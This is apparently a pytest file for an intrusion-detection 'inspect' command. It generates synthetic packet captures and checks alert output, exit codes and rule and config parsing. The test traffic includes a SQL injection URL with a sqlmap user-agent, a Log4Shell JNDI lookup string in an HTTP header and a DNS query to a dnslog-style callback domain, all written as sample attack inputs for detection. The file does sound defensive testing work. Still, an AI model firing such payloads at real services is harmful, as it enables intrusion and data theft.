"""`appliance inspect` as users run it: EVE lines on stdout, exit statuses, rule-file errors."""

from __future__ import annotations

from pathlib import Path

from scapy.all import DNS, DNSQR, IP, TCP, UDP, Ether  # type: ignore[attr-defined]
from scapy.utils import PcapNgWriter

from tests.conftest import REPO
from tests.inspect.traffic import http_get, run_cli, sids, tcp_session, write

EDGE_RULES = str(REPO / "profiles" / "rules" / "edge.rules")
REQUIRED = ("timestamp", "event_type", "src_ip", "src_port", "dest_ip", "dest_port", "proto")
REQUIRED_ALERT = ("action", "signature_id", "signature", "severity")


def attack_traffic() -> list[object]:
    packets = tcp_session(
        "198.51.100.7",
        "10.0.0.80",
        40000,
        80,
        [
            http_get(
                "/index.php?id=1%20UNION%20SELECT%20password", headers="User-Agent: sqlmap/1.7\r\n"
            )
        ],
    )
    packets += tcp_session(
        "198.51.100.7",
        "10.0.0.80",
        40001,
        80,
        [http_get("/", headers="X-Api: ${jndi:ldap://x/a}\r\n")],
    )
    packets.append(
        Ether()
        / IP(src="10.0.0.5", dst="9.9.9.9")
        / UDP(sport=5000, dport=53)
        / DNS(qd=DNSQR(qname="abc.dnslog.cn"))
    )
    return packets


def test_pcap_with_the_shipped_rules(tmp_path: Path) -> None:
    pcap = write(tmp_path / "attack.pcap", attack_traffic())
    code, events, stderr = run_cli("--pcap", str(pcap), "--rules", EDGE_RULES)
    assert code == 0, stderr
    assert sorted(sids(events)) == [1000100, 1000161, 1000200, 1000307]
    for event in events:
        for key in REQUIRED:
            assert key in event
        for key in REQUIRED_ALERT:
            assert key in event["alert"]
        assert event["event_type"] == "alert"
    by_sid = {e["alert"]["signature_id"]: e for e in events}
    assert by_sid[1000161]["alert"]["action"] == "blocked"  # a drop rule
    assert by_sid[1000100]["alert"]["action"] == "allowed"
    assert by_sid[1000100]["http"]["hostname"] == "app.example"
    assert by_sid[1000307]["dns"]["rrname"] == "abc.dnslog.cn"


def test_pcapng_input(tmp_path: Path) -> None:
    path = tmp_path / "attack.pcapng"
    writer = PcapNgWriter(str(path))
    for i, packet in enumerate(attack_traffic()):
        packet.time = 1_700_000_000 + i / 1000
        writer.write(packet)
    writer.close()
    code, events, stderr = run_cli("--pcap", str(path), "--rules", EDGE_RULES)
    assert code == 0, stderr
    assert sorted(sids(events)) == [1000100, 1000161, 1000200, 1000307]
    assert events[0]["timestamp"].startswith("2023-11-14T22:13:20.")


def test_unsupported_rule_is_skipped_with_one_warning_strict_refuses(tmp_path: Path) -> None:
    rules = tmp_path / "bad.rules"
    rules.write_text(
        "# comment\n"
        'alert tcp any any -> any any (msg:"ok"; flags:S; sid:1;)\n'
        "\n"
        'alert tcp any any -> any any (msg:"bad"; frobnicate:3; sid:2;)\n'
        'alert tcp any any -> any any (msg:"uri"; content:"UNION"; http_uri; sid:3;)\n'
    )
    pcap = write(tmp_path / "x.pcap", attack_traffic())
    code, events, stderr = run_cli("--pcap", str(pcap), "--rules", str(rules))
    assert code == 0, stderr
    assert stderr == f"{rules}:4: sid 2: unsupported keyword 'frobnicate'\n"
    assert set(sids(events)) == {1, 3}
    code, events, stderr = run_cli("--pcap", str(pcap), "--rules", str(rules), "--strict")
    assert code == 2
    assert events == []
    assert stderr == f"{rules}:4: unknown rule option 'frobnicate'\n"


def test_profile_rules_detectors_and_home_net(tmp_path: Path) -> None:
    extra = tmp_path / "extra.rules"
    extra.write_text('alert tcp any any -> $HOME_NET 22 (msg:"ssh to home"; flags:S; sid:7;)\n')
    profile = tmp_path / "p.toml"
    profile.write_text(
        "version = 1\n"
        'name = "t"\n'
        "[zones.lan]\n"
        'interfaces = ["eth1"]\n'
        'networks = ["10.0.0.0/8"]\n'
        "[inspect]\n"
        f'rules = ["{EDGE_RULES}"]\n'
        "block = false\n"
        "[inspect.detectors]\n"
        'port_scan = { ports = 5, window = "10s" }\n'
    )
    scan = [
        Ether() / IP(src="198.51.100.9", dst="10.0.0.80") / TCP(sport=999, dport=port, flags="S")
        for port in range(20, 30)
    ]
    pcap = write(tmp_path / "scan.pcap", scan)
    code, events, stderr = run_cli(
        "--pcap", str(pcap), "--profile", str(profile), "--rules", str(extra)
    )
    assert code == 0, stderr
    got = sids(events)
    assert got.count(9000001) == 1
    assert 7 in got  # --rules adds to the profile's rules; $HOME_NET from the zone networks
    assert 1000600 in got  # telnet (23) from $EXTERNAL_NET, from edge.rules
    assert all(e["alert"]["action"] == "allowed" for e in events)  # block = false


def test_not_a_capture_exits_2_with_one_line(tmp_path: Path) -> None:
    junk = tmp_path / "junk.pcap"
    junk.write_bytes(b"hello world, not a capture")
    code, _events, stderr = run_cli("--pcap", str(junk))
    assert code == 2
    assert stderr.count("\n") == 1 and "not a pcap or pcapng file" in stderr
    corrupt = tmp_path / "corrupt.pcap"
    write(corrupt, attack_traffic()[:2])
    with open(corrupt, "r+b") as handle:  # the first record's captured length: 10 MB
        handle.seek(24 + 8)
        handle.write((10_000_000).to_bytes(4, "little") * 2)
    code, _events, stderr = run_cli("--pcap", str(corrupt))
    assert code == 2, stderr
    assert stderr.count("\n") == 1 and "corrupt pcap record" in stderr
    code, _events, stderr = run_cli("--pcap", str(tmp_path / "missing.pcap"))
    assert code == 1 and stderr.count("\n") == 1


def test_stats_on_stderr(tmp_path: Path) -> None:
    pcap = write(tmp_path / "x.pcap", [*attack_traffic(), Ether() / b"\x45"])
    code, _events, stderr = run_cli("--pcap", str(pcap), "--stats")
    assert code == 0
    assert stderr.startswith("packets 10 decoded 9 alerts 0")
    assert "decoder eth.not_ip 1\n" in stderr


def test_profile_strict_classification_and_reference_config(tmp_path: Path) -> None:
    rules = tmp_path / "set.rules"
    rules.write_text(
        'alert http any any -> any any (msg:"custom"; content:"UNION"; http_uri; '
        "classtype:edge-custom; reference:edge,42; sid:5;)\n"
        'alert tcp any any -> any any (msg:"x"; dnp3_func:1; content:"y"; sid:6;)\n'
    )
    (tmp_path / "classification.config").write_text(
        "# the shipped ones plus one\nconfig classification: edge-custom,Edge Custom Class,1\n"
    )
    (tmp_path / "reference.config").write_text("config reference: edge https://edge.example/\n")

    def profile(extra: str, name: str) -> str:
        path = tmp_path / name
        path.write_text(
            'version = 1\nname = "t"\n[zones.lan]\ninterfaces = ["eth1"]\n'
            f'[inspect]\nrules = ["set.rules"]\n{extra}'
        )
        return str(path)

    pcap = write(tmp_path / "x.pcap", attack_traffic())
    lenient = profile(
        'classification = "classification.config"\nreference = "reference.config"\n', "a.toml"
    )
    code, events, stderr = run_cli("--pcap", str(pcap), "--profile", lenient)
    assert code == 0, stderr
    assert stderr == f"{rules}:2: sid 6: unsupported keyword 'dnp3_func'\n"
    assert [(e["alert"]["category"], e["alert"]["severity"]) for e in events] == [
        ("Edge Custom Class", 1)
    ]
    code, events, stderr = run_cli(
        "--pcap", str(pcap), "--profile", profile("strict = true\n", "b.toml")
    )
    assert code == 2 and events == []
    assert stderr.startswith(f"{rules}:1: unknown classtype 'edge-custom'")
    (tmp_path / "classification.config").write_text("config classification: broken\n")
    code, events, stderr = run_cli("--pcap", str(pcap), "--profile", lenient)
    assert code == 2
    assert stderr.startswith(f"{tmp_path / 'classification.config'}:1: expected NAME,")
